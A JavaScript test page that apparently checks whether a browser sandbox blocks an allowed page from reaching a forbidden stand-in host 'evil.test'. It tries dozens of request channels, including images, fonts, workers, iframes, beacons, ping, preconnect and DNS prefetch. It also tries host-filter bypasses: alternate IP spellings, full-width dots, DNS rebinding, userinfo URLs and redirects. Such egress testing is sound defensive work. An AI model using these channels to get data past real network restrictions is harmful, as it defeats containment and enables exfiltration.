// The vectors of a page on the allowed host. Each is named as the forbidden side counts it.

const styled = css => {
  const style = document.createElement("style");
  style.textContent = css;
  document.head.append(style);
  return sleep(800);
};
const inSvg = (tag, url) => new Promise(done => {
  const ns = "http://www.w3.org/2000/svg";
  const [svg, it] = [document.createElementNS(ns, "svg"), document.createElementNS(ns, tag)];
  it.onload = it.onerror = done;
  it.setAttribute("href", url);
  svg.append(it);
  document.body.append(svg);
});
const box = css => {
  const it = document.createElement("div");
  it.style.cssText = css;
  it.textContent = "x";
  document.body.append(it);
  return sleep(800);
};

// Nobody is told what becomes of a hint.
const hint = (rel, href) => {
  element("link", { rel, href }, document.head);
  return sleep(800);
};

// Each of these goes straight to the forbidden host, and by a redirect of the allowed one.
const loaders = {
  fetch: get,
  xhr,
  img: src => element("img", { src }),
  srcset: url => element("img", { srcset: `${url} 1x` }),
  css: href => element("link", { rel: "stylesheet", href }),
  "css-import": url => styled(`@import url("${url}");`),
  "css-background": url => box(`background: url("${url}")`),
  font: url => new FontFace("evil", `url("${url}")`).load(),
  script: src => element("script", { src }),
  "module-script": src => element("script", { type: "module", src }),
  import: url => import(url),
  video: src => element("video", { src, preload: "auto" }),
  audio: src => element("audio", { src, preload: "auto" }),
  poster: poster => { element("video", { poster }); return sleep(800); },
  track: src => {
    const video = document.createElement("video");
    video.crossOrigin = "anonymous";
    document.body.append(video);
    const ended = element("track", { src, default: "" }, video);
    video.textTracks[0].mode = "showing";
    return ended;
  },
  "svg-image": url => inSvg("image", url),
  "svg-filter": url => { inSvg("feImage", url); return sleep(800); },
  "input-image": src => element("input", { type: "image", src }),
  eventsource: events,
  beacon: url => navigator.sendBeacon(url, "x"),
  keepalive: url => fetch(url, { mode: "no-cors", method: "POST", keepalive: true }),
  ping: url => {
    const a = document.createElement("a");
    a.href = "#here";
    a.ping = url;
    document.body.append(a);
    a.click();
  },
  preload: href => element("link", { rel: "preload", as: "image", href }),
  prefetch: href => element("link", { rel: "prefetch", href }),
  modulepreload: href => element("link", { rel: "modulepreload", href }),
  iframe: src => element("iframe", { src }),
  object: data => element("object", { data }),
  embed: src => element("embed", { src }),
};
const loads = {};
for (const [name, load] of Object.entries(loaders)) {
  loads[name] = () => load(at(name));
  loads[`${name}-302`] = () => load(hop(`${name}-302`));
}

const form = (name, attributes) => {
  const frame = document.createElement("iframe");
  frame.name = `frame-${name}`;
  const it = document.createElement("form");
  Object.assign(it, { action: at(name), target: frame.name }, attributes);
  document.body.append(frame, it);
  it.submit();
  return sleep(800);
};
// The content of frames that have no address of their own.
const content = name => `<script>
  fetch(${JSON.stringify(at(name))}, { mode: "no-cors" }).catch(() => {});
  new Image().src = ${JSON.stringify(at(`${name}-img`))};
  new WebSocket(${JSON.stringify(socketAt(`${name}-ws`))});
</script>`;
const frames = {
  form: () => form("form", { method: "POST" }),
  "form-get": () => form("form-get", {}),
  srcdoc: () => element("iframe", { srcdoc: content("srcdoc") }).then(() => sleep(500)),
  sandbox: () => element("iframe", { srcdoc: content("sandbox"), sandbox: "allow-scripts" })
    .then(() => sleep(500)),
  data: () => element("iframe", { src: `data:text/html,${encodeURIComponent(content("data"))}` })
    .then(() => sleep(500)),
  blob: () => {
    const blob = new Blob([content("blob")], { type: "text/html" });
    return element("iframe", { src: URL.createObjectURL(blob) }).then(() => sleep(500));
  },
  // Pages of the allowed host whose heads say it.
  heads: () => Promise.all(["link-header", "csp-report", "frame-meta", "frame-refresh"].map(page =>
    element("iframe", { src: `${C.here}/page/${C.context}/${page}` }))).then(() => sleep(500)),
};

const popups = {
  open: () => open(at("popup-open")),
  noopener: () => open(at("popup-noopener"), "_blank", "noopener"),
  scripted: async () => {
    const it = open("about:blank");
    await sleep(300);
    it.location = at("popup-scripted");
  },
  written: async () => {
    const it = open("about:blank");
    await sleep(300);
    it.document.write(`<img src="${at("popup-written")}">`);
  },
  link: () => {
    const a = document.createElement("a");
    Object.assign(a, { href: at("popup-link"), target: "_blank" });
    document.body.append(a);
    a.click();
  },
  fetching: () => open(`${C.here}/page/${C.context}/popup-fetch`),
};

const workers = {
  worker: () => said(new Worker(`${scripts}/worker.js`)),
  module: () => said(new Worker(`${scripts}/module.js`, { type: "module" })),
  blob: () => {
    const code = `fetch(${JSON.stringify(at("worker-blob"))}, { mode: "no-cors" })
      .catch(() => {}).then(() => postMessage("done"))`;
    return said(new Worker(URL.createObjectURL(new Blob([code]))));
  },
  shared: () => said(new SharedWorker(`${scripts}/shared.js`, C.context).port),
};

// Other spellings of the forbidden host.
const spelled = (host, name) => at(name).replace("evil.test", host);
const spellings = {};
for (const [name, host] of Object.entries({
  "ip-literal": "127.0.0.2",
  "ip-decimal": "2130706434",
  "ip-hex": "0x7f000002",
  "ip-octal": "0177.0.0.02",
  "ip-short": "127.2",
  "ip-mapped": "[::ffff:127.0.0.2]",
  "trailing-dot": "evil.test.",
  "upper-case": "EVIL.TEST",
  "full-width": "evil．ｔｅｓｔ",
  subdomain: "sub.evil.test",
  rebind: "rebind.test",
})) {
  spellings[name] = () => get(spelled(host, name));
  spellings[`${name}-ws`] = () => socket(socketAt(`${name}-ws`).replace("evil.test", host));
}
spellings["rebind-frame"] = () =>
  element("iframe", { src: spelled("rebind.test", "rebind-frame") });
spellings["userinfo-frame"] = () => {
  element("iframe", { src: spelled("allowed.test@evil.test", "userinfo-frame") });
  return sleep(800);
};

const connections = {
  ws: () => socket(socketAt("ws")),
  wss: () => socket(`wss://evil.test:${port("wss")}/`),
  https: () => get(`https://evil.test:${port("https")}/`),
  preconnect: () => hint("preconnect", `http://evil.test:${port("preconnect")}`),
  "preconnect-tls": () => hint("preconnect", `https://evil.test:${port("preconnect-tls")}`),
};

const names = {
  "dns-prefetch": () => hint("dns-prefetch", `//${unknown("dns-prefetch")}`),
  "dns-preconnect": () => hint("preconnect", `http://${unknown("dns-preconnect")}`),
  "dns-fetch": () => get(`http://${unknown("dns-fetch")}/`),
  "dns-img": () => element("img", { src: `http://${unknown("dns-img")}/` }),
  "dns-frame": () => element("iframe", { src: `http://${unknown("dns-frame")}/` }),
  "dns-ws": () => socket(`ws://${unknown("dns-ws")}/`),
};

(async () => {
  await Promise.all([loads, frames, workers, spellings, connections, names].map(each));
  // A page behind its popups loads no video, so they come last.
  await each(popups);
  await done("main");
})();
